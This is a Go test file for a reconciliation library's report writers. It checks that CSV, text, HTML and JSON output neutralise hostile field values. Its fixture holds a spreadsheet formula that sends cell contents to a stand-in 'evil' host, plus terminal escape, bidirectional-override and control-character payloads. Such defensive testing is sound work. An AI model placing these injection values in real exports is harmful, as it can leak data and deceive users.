package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/idemkit/idem/reconcile"
)

// hostile is a report whose keys, scope and errors a client or a provider
// chose: a spreadsheet formula, terminal escapes, a bidirectional
// override, DEL and a C1 control.
func hostile() *reconcile.Report {
	now := time.Date(2026, 12, 1, 19, 5, 2, 0, time.UTC)
	return &reconcile.Report{StartedAt: now, FinishedAt: now,
		Counts:      map[reconcile.Class]int{reconcile.ClassDrift: 2},
		DriftAmount: map[string]int64{"EUR": 110},
		SkippedRows: []reconcile.SkippedRows{{Reason: "type @SUM(A1)", Rows: 1, Lines: []int{7}}},
		Findings: []reconcile.Finding{
			{Class: reconcile.ClassDrift, Scope: "+shop", Key: `=HYPERLINK("http://evil/?"&A1,"click")`, ForwardKey: "-2+3",
				Local: -500, LocalCurrency: "EUR", Provider: 1250, ProviderCurrency: "EUR", Detail: "\tcmd"},
			{Class: reconcile.ClassDrift, Scope: "shop", Key: "k\x1b[2J\x1b]0;pwned\x07\u202egnp.exe\x7f\u0085", ForwardKey: "fk",
				Local: 1, LocalCurrency: "EUR", Provider: 2, ProviderCurrency: "EUR"},
		},
		Errors: []string{"k\x1b[31m: boom"}}
}

// TestCSVReportNeutralisesFormulas: no cell of the CSV report begins with
// a character a spreadsheet evaluates (OWASP's rule), and none carries a
// control character.
func TestCSVReportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := reconcile.WriteCSV(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(&b)
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var seen bool
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q begins with a formula character", cell)
			}
			if strings.ContainsAny(cell, "\x1b\x07\x7f\u0085\u202e") {
				t.Errorf("cell %q carries a control character", cell)
			}
			seen = seen || cell == `'=HYPERLINK("http://evil/?"&A1,"click")`
		}
	}
	if !seen {
		t.Errorf("the formula key is not kept as text:\n%v", rows)
	}
}

// TestReportsEscapeControlCharacters: the terminal table, the HTML page
// and the JSON show control and format characters as escapes; the JSON
// still decodes to the exact key.
func TestReportsEscapeControlCharacters(t *testing.T) {
	t.Parallel()
	rep := hostile()
	for name, write := range map[string]func(*bytes.Buffer) error{
		"text": func(b *bytes.Buffer) error { return reconcile.WriteText(b, rep) },
		"html": func(b *bytes.Buffer) error { return reconcile.WriteHTML(b, rep) },
		"json": func(b *bytes.Buffer) error { return reconcile.WriteJSON(b, rep) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(b.String(), "\x1b\x07\x7f\u0085\u202e") {
			t.Errorf("%s report carries raw control characters:\n%q", name, b.String())
		}
		if name == "text" && !strings.Contains(b.String(), `\x1b[2J`) {
			t.Errorf("text report does not show the escape:\n%s", b.String())
		}
		if name == "json" {
			var back reconcile.Report
			if err := json.Unmarshal(b.Bytes(), &back); err != nil || back.Findings[1].Key != rep.Findings[1].Key {
				t.Errorf("JSON report does not decode to the exact key: %v", err)
			}
		}
	}
}

// TestReportsPrintMoney: amounts are the major amount with the currency.
func TestReportsPrintMoney(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := reconcile.WriteText(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"drift_amount             1.10 EUR", "-5.00 EUR", "12.50 EUR", "0.01 EUR"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("text report lacks %q:\n%s", want, b.String())
		}
	}
}
